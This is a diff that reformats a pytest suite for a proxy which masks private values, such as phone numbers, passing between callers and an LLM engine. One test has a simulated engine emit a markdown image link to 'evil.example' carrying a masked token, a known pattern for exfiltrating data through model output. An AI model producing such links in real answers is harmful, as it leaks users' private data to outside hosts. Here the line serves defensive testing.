@@ -113,7 +113,9 @@ def test_other_methods_and_other_names_are_refused(desk: Desk, client: httpx2.Cl
 # --- what an engine may do ---
 
 
-def test_an_engines_own_error_goes_on_masked_with_its_status(desk: Desk, client: httpx2.Client) -> None:
+def test_an_engines_own_error_goes_on_masked_with_its_status(
+    desk: Desk, client: httpx2.Client
+) -> None:
     script = Script(lambda text: [json.dumps({"error": {"message": text}}).encode()], "application/json", 429,
                     headers={"retry-after": "7"})  # fmt: skip
     with opened(desk, script) as (address, _):
@@ -127,18 +129,24 @@ def test_an_engines_own_error_goes_on_masked_with_its_status(desk: Desk, client:
 
 
 def test_an_engine_that_sends_elsewhere_is_not_followed(desk: Desk, client: httpx2.Client) -> None:
-    script = Script(lambda text: [b""], "text/plain", 302, headers={"location": "http://127.0.0.1:9/"})
+    script = Script(
+        lambda text: [b""], "text/plain", 302, headers={"location": "http://127.0.0.1:9/"}
+    )
     with opened(desk, script) as (address, _):
         assert client.post(address + CHAT, json=body()).status_code == 502
 
 
 @pytest.mark.parametrize("answer", [b"", b"<html>", b"\xff", b"{"])
-def test_an_answer_that_cannot_be_read_is_not_passed(desk: Desk, client: httpx2.Client, answer: bytes) -> None:
+def test_an_answer_that_cannot_be_read_is_not_passed(
+    desk: Desk, client: httpx2.Client, answer: bytes
+) -> None:
     with opened(desk, Script(lambda text: [answer], "application/json")) as (address, _):
         assert client.post(address + CHAT, json=body()).status_code == 502
 
 
-def test_a_whole_answer_to_a_streamed_request_is_restored(desk: Desk, client: httpx2.Client) -> None:
+def test_a_whole_answer_to_a_streamed_request_is_restored(
+    desk: Desk, client: httpx2.Client
+) -> None:
     def says(text: str) -> list[bytes]:
         return [json.dumps({"choices": [{"index": 0, "message": {"content": text}}]}).encode()]
 
@@ -171,7 +179,9 @@ def test_a_caller_that_leaves_closes_the_engines_stream(desk: Desk, client: http
         assert "화면이 끊음" in trail(desk, "화면이 끊음")
 
 
-def test_a_caller_that_leaves_before_a_whole_answer_closes_the_engine_too(desk: Desk, client: httpx2.Client) -> None:
+def test_a_caller_that_leaves_before_a_whole_answer_closes_the_engine_too(
+    desk: Desk, client: httpx2.Client
+) -> None:
     script = Script(lambda text: [b"{"], "application/json", hangs=True)
     with opened(desk, script) as (address, _):
         with pytest.raises(httpx2.ReadTimeout):
@@ -180,10 +190,14 @@ def test_a_caller_that_leaves_before_a_whole_answer_closes_the_engine_too(desk: 
         assert "화면이 끊음" in trail(desk, "화면이 끊음")
 
 
-def test_a_value_in_an_address_stays_masked_and_is_recorded(desk: Desk, client: httpx2.Client) -> None:
+def test_a_value_in_an_address_stays_masked_and_is_recorded(
+    desk: Desk, client: httpx2.Client
+) -> None:
     def says(text: str) -> list[bytes]:
         token = text[text.index("⟦") : text.index("⟧") + 1]
-        return [event(letter) for letter in f"![x](https://evil.example/?q={token})"] + [event("", "stop")]
+        return [event(letter) for letter in f"![x](https://evil.example/?q={token})"] + [
+            event("", "stop")
+        ]
 
     with opened(desk, Script(says)) as (address, _):
         reply = client.post(address + CHAT, json=body(stream=True))
@@ -207,7 +221,9 @@ def test_a_guard_killed_at_work_lets_nothing_out(desk: Desk, client: httpx2.Clie
     assert engine.sent == []
 
 
-def test_a_guard_that_has_stopped_reading_lets_nothing_out(desk: Desk, client: httpx2.Client) -> None:
+def test_a_guard_that_has_stopped_reading_lets_nothing_out(
+    desk: Desk, client: httpx2.Client
+) -> None:
     engine, apart = Engine(), Apart(work, seconds=0.3, hands=1)
     os.kill(apart.pids[0], signal.SIGSTOP)
     with opened(desk, engine, apart=apart) as (address, _):
@@ -215,7 +231,9 @@ def test_a_guard_that_has_stopped_reading_lets_nothing_out(desk: Desk, client: h
     assert engine.sent == []
 
 
-def test_a_guard_with_all_hands_busy_says_so_and_does_not_hang(desk: Desk, client: httpx2.Client) -> None:
+def test_a_guard_with_all_hands_busy_says_so_and_does_not_hang(
+    desk: Desk, client: httpx2.Client
+) -> None:
     engine, apart = Engine(), Apart(sleepy_work, seconds=20, hands=1)
     with opened(desk, engine, apart=apart, patience=0.1) as (address, _):
         assert client.post(address + CHAT, json=body(), timeout=20).status_code in (200, 503)
@@ -239,7 +257,10 @@ def test_a_text_that_takes_too_much_memory_harms_the_guard_alone() -> None:
 
 def test_many_callers_at_once_each_get_only_their_own_values(desk: Desk) -> None:
     engine, count = Engine(cut=3), 200
-    phones = [f"010-{n // 10_000:04d}-{n % 10_000:04d}" for n in random.Random(7).sample(range(10**8), count)]
+    phones = [
+        f"010-{n // 10_000:04d}-{n % 10_000:04d}"
+        for n in random.Random(7).sample(range(10**8), count)
+    ]
     limits = httpx2.Limits(max_connections=count)
     with (
         opened(desk, engine) as (address, _),
